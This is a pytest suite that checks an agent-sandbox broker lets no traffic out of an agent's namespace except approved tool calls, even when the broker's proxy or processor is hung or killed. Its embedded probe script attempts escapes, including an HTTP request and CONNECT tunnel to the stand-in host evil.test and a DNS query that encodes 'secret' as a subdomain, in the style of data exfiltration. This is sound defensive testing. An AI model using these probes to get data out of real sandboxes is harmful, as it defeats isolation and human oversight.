"""Out of an agent's namespace nothing gets but calls that the broker lets through, whatever of the broker hangs or is gone.

Two witnesses that know nothing of the broker: sinks, which count who reaches them, and tcpdump, on every interface of the host,
of the machine that it lies on, and of another agent's namespace.
"""

import os
import shutil
import signal
import socket
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from types import SimpleNamespace

import pytest
import stack
from conftest import LOOPBACK, OPERATIONS
from host import METADATA, WHY_NOT, WORLD4, WORLD6, Host, Packets, Run, has_ended, has_stopped

pytestmark = [
    pytest.mark.envoy,
    pytest.mark.skipif(bool(WHY_NOT), reason=WHY_NOT),
    pytest.mark.skipif(shutil.which("tcpdump") is None, reason="missing here: tcpdump (package tcpdump)"),
]

WIKI, API = "wiki.tool.test", "api.tool.test"
GRANTED = {"operations": {"items.list": {}}}

# For each line that it reads it tries all at once that leads past the broker ("past"), what the agent may do ("tool"), or both.
PROBE = r"""
import os, socket, ssl, struct, sys, threading
WORLD4, WORLD6, METADATA, WIKI, API, *PATHS = sys.argv[1:]
os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
TCP, UDP, RAW = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW
def reach(family, kind, address, protocol=0, data=b"x"):
    with socket.socket(family, kind, protocol) as s:
        s.settimeout(4)
        if kind != TCP: return s.sendto(data, address)
        s.connect(address)
        if data: s.sendall(data)
        while s.recv(512): pass
def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return bytes.fromhex("627201000001000000000000") + labels + b"\0\0\1\0\1"
def secure(host, name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((host, 443), 4) as plain, context.wrap_socket(plain, server_hostname=name) as s:
        s.sendall(b"GET /items HTTP/1.1\r\nhost: %b\r\nconnection: close\r\n\r\n" % name.encode())
        while s.recv(512): pass
def packet():
    with socket.socket(socket.AF_PACKET, RAW) as s:
        s.bind(("lo", 0))
        s.send(bytes(12) + b"\x88\xb5out")
V4, V6 = socket.AF_INET, socket.AF_INET6
ECHO, ECHO6 = bytes.fromhex("0800f7ff00000000"), bytes.fromhex("8000000000000000")
EVIL = b"GET /items HTTP/1.1\r\nhost: evil.test\r\nconnection: close\r\n\r\n"
GET = EVIL.replace(b"evil.test", WIKI.encode())
past = [
    *((reach, family, TCP, (world, port), 0, b"") for family, world in ((V4, WORLD4), (V6, WORLD6)) for port in (8080, 22, 53)),
    *((reach, family, TCP, (world, 80), 0, EVIL) for family, world in ((V4, WORLD4), (V6, WORLD6))),
    *((reach, family, UDP, (world, port)) for family, world in ((V4, WORLD4), (V6, WORLD6)) for port in (443, 8080)),
    *((reach, family, UDP, (world, 53), 0, question("c2VjcmV0.evil.test")) for family, world in ((V4, WORLD4), (V6, WORLD6))),
    (reach, V4, TCP, (METADATA, 8081), 0, b""), (reach, V4, TCP, ("127.0.0.1", 7777), 0, b""),
    (reach, V4, TCP, ("127.0.0.1", 1001), 0, b"CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n"),
    (secure, WORLD4, "evil.test"), (socket.getaddrinfo, "c2VjcmV0.evil.test", 443),
    (reach, V4, RAW, (WORLD4, 0), socket.IPPROTO_ICMP, ECHO), (reach, V6, RAW, (WORLD6, 0), socket.IPPROTO_ICMPV6, ECHO6),
    (reach, V4, UDP, (WORLD4, 0), socket.IPPROTO_ICMP, ECHO), (reach, V4, RAW, (WORLD4, 0), 253), (packet,),
    *((reach, socket.AF_UNIX, TCP, path, 0, b"") for path in ("\0broker-test", *PATHS)),
]
tool = [
    (reach, V4, TCP, (WORLD4, 80), 0, GET), (secure, WORLD4, API),
    (reach, V4, TCP, ("127.0.0.1", 1001), 0, GET.replace(b" /", b" http://%b/" % WIKI.encode(), 1)),
]
def attempt(how, *what):
    try: how(*what)
    except OSError: pass
for line in sys.stdin:
    tries = {"past": past, "tool": tool, "both": past + tool}[line.strip()]
    threads = [threading.Thread(target=attempt, args=each) for each in tries]
    for each in threads: each.start()
    for each in threads: each.join()
    print("tried", len(tries), flush=True)
"""
# What tcpdump must show of the same on the host, where nothing holds it.
SHOWN = [
    *(f"> {world}.{port}: {kind}" for world in (WORLD4, WORLD6) for port, kind in
      ((8080, "tcp"), (22, "tcp"), (53, "tcp"), (80, "tcp"), (443, "UDP"), (8080, "UDP"), (53, "UDP"))),
    f"> {METADATA}.8081: tcp", "> 127.0.0.1.7777: tcp", "> 127.0.0.1.1001: tcp", f"> {WORLD4}.443: tcp",
    f"> {WORLD4}: ICMP echo request", f"> {WORLD6}: ICMP6, echo request", "-253 1", "ifindex",
]  # fmt: skip


@pytest.fixture(scope="module")
def place() -> Iterator[SimpleNamespace]:
    with ExitStack() as held:
        folder = stack.short_folder()
        host, ca = Host(folder, WIKI, API), stack.TestCA()
        held.callback(host.close)
        certificate = ca.issue(folder / "certs", API)
        upstreams = [host.inside(lambda: stack.Upstream(port=80)), host.inside(lambda: stack.Upstream(certificate, port=443))]
        manifests = stack.write_manifests(
            folder / "manifests",
            stack.tool("wiki", f"http://{WIKI}", OPERATIONS, upstream=LOOPBACK),
            stack.tool("api", f"https://{API}", OPERATIONS, upstream={"ca": "ca.pem", **LOOPBACK}),
            stack.agent("coder", {"wiki": GRANTED, "api": GRANTED}),
            stack.agent("other", {"wiki": GRANTED}),
        )
        (manifests / "ca.pem").write_text(ca.pem)
        broker = stack.Broker(manifests, folder / "state", within=host.within)
        held.callback(broker.stop)
        sinks = _sinks(host, folder)
        held.callback(lambda: [Path(path).unlink() for path in sinks.values()])
        program = [sys.executable, "-c", PROBE, WORLD4, WORLD6, METADATA, WIKI, API, *sinks.values()]
        agent, other = Run(host, broker, "coder", *program), Run(host, broker, "other", "cat")
        assert other.ask("ready") == "ready"
        only = f"host {WORLD4} or host {WORLD6} or (host {METADATA} and port 8081) or port 7777 or net 198.18.0.0/15"
        witnesses = {"host": Packets(host.pid), "machine": Packets("self", only), "other": Packets(other.first_process)}
        for each in (agent, other, *witnesses.values(), *upstreams):
            held.callback(each.close)
        yield SimpleNamespace(
            host=host, broker=broker, agent=agent, upstreams=upstreams, witnesses=witnesses, program=program, sinks=sinks
        )


def _sinks(host: Host, folder: Path) -> dict[str, str]:
    """Listen at all that the probe tries on the host; the Unix sockets by their names."""
    for world in (WORLD4, WORLD6):
        for port in (8080, 22, 53):
            host.listen(f"TCP {port} {world}", world, port)
        for port in (443, 53, 8080):
            host.listen(f"UDP {port} {world}", world, port, socket.SOCK_DGRAM)
    host.listen("metadata", METADATA, 8081)
    host.listen("the host's loopback", "127.0.0.1", 7777)
    host.listen_icmp("ICMP")
    host.listen_unix("abstract socket", "\0broker-test")
    places = {"in /tmp": folder, "in /run": Path("/run"), "in /dev/shm": Path("/dev/shm"), "elsewhere": Path("/var/lib")}
    paths = {name: str(where / f"broker-test-{os.getpid()}.sock") for name, where in places.items()}
    for name, path in paths.items():
        host.listen_unix(name, path)
    return paths


@contextmanager
def seen(place: SimpleNamespace) -> Iterator[dict[str, list[str]]]:
    """What each witness saw while the body ran; there once it has ended."""
    place.host.reached.clear()
    for upstream in place.upstreams:
        upstream.seen.clear()
    found: dict[str, list[str]] = {}
    with ExitStack() as looking:
        shown = {name: looking.enter_context(each.seen()) for name, each in place.witnesses.items()}
        yield found
    arrived = [each.path for upstream in place.upstreams for each in upstream.seen]
    every = {**shown, "sinks": [*place.host.reached], "upstreams": arrived}
    found |= {name: lines for name, lines in every.items() if lines}


def test_where_nothing_holds_it_each_try_gets_out_and_both_witnesses_see_it(place):
    sinks = 2 * 6 + 2 + 2 + len(place.sinks)
    with seen(place) as found:
        assert place.host.run("sh", "-c", 'echo past | exec "$0" "$@"', *place.program).stdout.startswith("tried")
        stack.until(lambda: len(place.host.reached) == sinks, why=str(place.host.reached))
    assert [what for what in SHOWN if not any(what in line for line in found["host"])] == [], found["host"]


FAULTS = {
    "nothing": (),
    "Envoy hangs": ((signal.SIGSTOP, "envoy"),),
    "the processor hangs": ((signal.SIGSTOP, "processor"),),
    # Whoever would start it again is stopped first.
    "Envoy is killed": ((signal.SIGSTOP, "broker"), (signal.SIGKILL, "envoy")),
    "the processor is killed": ((signal.SIGSTOP, "broker"), (signal.SIGKILL, "processor")),
    "all is killed": ((signal.SIGKILL, "broker"),),
}


@pytest.fixture(params=[pytest.param(faults, id=name) for name, faults in FAULTS.items()])
def broken(place, request):
    """What was done to processes of the broker's, and is undone afterwards."""
    broker = place.broker
    pids = {"broker": broker.process.pid, "envoy": broker.child("envoy"), "processor": broker.child("processor")}
    try:
        for number, name in request.param:
            os.kill(pids[name], number)
            if number == signal.SIGSTOP:
                stack.until(lambda pid=pids[name]: has_stopped(pid))
        killed = {name for number, name in request.param if number == signal.SIGKILL}
        dead = pids if "broker" in killed else killed
        stack.until(lambda: all(has_ended(pids[name]) for name in dead))
        if "envoy" in dead:
            stack.until(place.host.quiet)  # its connections are closed
        yield request.param
    finally:
        for pid in pids.values():
            with suppress(ProcessLookupError):  # the supervisor goes on first, and may have ended the others by now
                os.kill(pid, signal.SIGCONT)
        if has_ended(broker.process.pid):
            broker.stop()
            broker.start()
    stack.until(lambda: _passed(place), 30)


def _passed(place: SimpleNamespace) -> bool:
    """Whether the agent may do again what it may do."""
    with seen(place):
        place.agent.ask("tool")
    return all(upstream.seen for upstream in place.upstreams)


def test_whatever_is_broken_not_a_packet_gets_out(place, broken):
    with seen(place) as found:
        assert place.agent.ask("both" if broken else "past").startswith("tried")
    assert found == {}


def test_what_the_agent_may_do_gets_to_its_tools_and_no_packet_elsewhere(place):
    with seen(place) as found:
        place.agent.ask("both")
    assert (found.keys(), found["upstreams"]) == ({"upstreams", "host"}, ["/items"] * 3)
    tools = [f"127.0.0.1.{port}{mark}" for port in (80, 443) for mark in (": ", " > ")]
    assert [line for line in found["host"] if not any(each in line for each in tools)] == []
